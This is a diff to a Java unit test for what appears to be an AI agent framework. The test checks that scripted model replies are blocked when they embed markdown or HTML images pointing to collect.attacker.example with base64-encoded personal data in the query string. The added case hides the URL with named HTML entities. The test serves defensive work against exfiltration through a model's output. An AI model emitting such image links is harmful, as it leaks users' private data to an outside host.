@@ -92,7 +92,10 @@ class AgentPresetTest {
         for (String shape : List.of(
                 "Done.\n\n![status][s]\n\n[s]: https://collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ",
                 "Done. ![s](//collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
-                "Done. <img src = \"https://collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">")) {
+                "Done. <img src = \"https://collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                // the URL spelled with named HTML references, as a browser reads it
+                "Done. <img src=\"https&colon;&sol;&sol;collect&period;attacker&period;example&sol;p.gif&quest;d&equals;"
+                        + "QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">")) {
             assertThat(blocked(
                                     ChatRequest.of("p:m", "Summarise my notes"),
                                     ScriptedProvider.replying(Reply.text(shape)))
